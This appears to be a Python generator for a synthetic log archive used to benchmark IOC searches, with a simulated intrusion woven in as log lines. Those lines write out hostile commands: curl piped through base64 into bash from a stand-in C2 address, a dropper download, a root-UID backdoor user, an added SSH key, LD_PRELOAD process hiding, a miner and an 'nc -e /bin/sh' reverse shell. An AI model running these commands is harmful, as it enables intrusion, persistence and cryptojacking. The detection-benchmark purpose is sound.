#!/usr/bin/env python3
"""Writes a synthetic konseki archive made of the real corpus lines.

gen.py OUT_DIR [--mb N] [--hosts H] [--days D]

Lines are "<received RFC 3339 micros> <sender> <raw>" as outputs/archive.h
writes them; raw lines come from ../shared/corpus (every file), drawn at
random, with every number in them varied (PIDs, ports, IP octets keep their
digit count) so the data does not repeat and holds as many distinct numbers
as real logs do. Receive times increase through each day; every host gets
every day.

An intrusion is woven in, as the searches an admin runs after a threat
report look for it (IOCs: bench/archive_search/run's IOC patterns): on
day 2 an SSH brute force from 203.0.113.77 on host03 (one attempt every
20 s for two hours, 360 lines), a login, a dropper fetched from
45.142.212.61, a miner, persistence; on day 3 the same attacker on host05.
About 400 lines in all: rare in the archive, as IOCs are.
"""
import argparse
import os
import random
import re

ap = argparse.ArgumentParser()
ap.add_argument("out")
ap.add_argument("--mb", type=int, default=256)
ap.add_argument("--hosts", type=int, default=8)
ap.add_argument("--days", type=int, default=4)
ap.add_argument("--corpus", default=os.path.join(os.path.dirname(__file__), "../../../shared/corpus"))
a = ap.parse_args()

lines = []
for root, _, files in os.walk(a.corpus):
    for f in files:
        if f == "README.md":
            continue
        with open(os.path.join(root, f), errors="replace") as fh:
            lines += [l.rstrip("\n") for l in fh if l.strip()]
rnd = random.Random(1)
num = re.compile(r"\d+")

# (host, day, second of the day, raw line) of the intrusion.
C2 = "45.142.212.61"
ATT = "203.0.113.77"
incident = []
for k in range(360):
    user = ["admin", "oracle", "test", "ubuntu", "postgres", "git"][k % 6]
    incident.append((3, 1, 14 * 3600 + 20 * k, "sshd[%d]: Failed password for invalid user %s from %s port %d ssh2"
                     % (20000 + k, user, ATT, 40000 + k)))
steps = [
    "sshd[31337]: Accepted password for oracle from %s port 51234 ssh2" % ATT,
    "sudo: oracle : TTY=pts/0 ; PWD=/home/oracle ; USER=root ; COMMAND=/usr/bin/curl -fsSL http://%s/ldr.sh" % C2,
    "bash[31400]: wget -q -O /tmp/.X25-unix/kdevtmpfsi http://%s/kdevtmpfsi" % C2,
    "CRON[31401]: (root) CMD (curl -fsSL http://%s/ldr.sh | base64 -d | bash)" % C2,
    "useradd[31402]: new user: name=sysadm, UID=0, GID=0, home=/root, shell=/bin/bash",
    "bash[31403]: echo ssh-rsa AAAAB3NzaC1yc2E attacker >> /root/.ssh/authorized_keys2",
    "chattr[31404]: chattr +i /etc/ld.so.preload",
    "bash[31405]: export LD_PRELOAD=/tmp/.X25-unix/libprocesshider.so",
    "kdevtmpfsi[31406]: started kinsing watchdog",
    "xmrig[31407]: use pool stratum+tcp://pool.minexmr.example:4444 TLS",
    "bash[31408]: nc -e /bin/sh %s 4444" % C2,
    "bash[31409]: python3 -c 'import socket,subprocess,os;s=socket.socket()'",
]
for day, host, t0 in ((1, 3, 16 * 3600 + 73), (2, 5, 2 * 3600 + 11)):
    for j, raw in enumerate(steps):
        for rep in range(3):
            incident.append((host, day, t0 + 60 * j + rep * 7, raw.replace("oracle", "svc_backup") if day == 2 else raw))
incident.sort()
per_file = a.mb * 1024 * 1024 // (a.hosts * a.days)
for h in range(a.hosts):
    host = "host%02d" % h
    os.makedirs(os.path.join(a.out, host), exist_ok=True)
    for d in range(a.days):
        path = os.path.join(a.out, host, "2025-12-%02d.log" % (d + 1))
        size, i, out = 0, 0, []
        n_est = per_file // 170 + 1
        mine = [e for e in incident if e[0] == h and e[1] == d]

        def line(us, raw):
            s, f = divmod(us, 1000000)
            ts = "2025-12-%02dT%02d:%02d:%02d.%06dZ" % (d + 1, s // 3600 % 24, s // 60 % 60, s % 60, f)
            return "%s 192.0.2.%d <13>%s\n" % (ts, h + 1, raw)

        while size < per_file:
            us = int(i * 86400e6 / n_est) + rnd.randrange(1000)
            while mine and mine[0][2] * 1000000 <= us:
                out.append(line(mine[0][2] * 1000000, mine.pop(0)[3]))
            raw = lines[rnd.randrange(len(lines))]
            raw = num.sub(lambda m: str(rnd.randrange(10 ** min(len(m.group()), 6))), raw)
            out.append(line(us, raw))
            size += len(out[-1])
            i += 1
        with open(path, "w") as fh:
            fh.writelines(out)
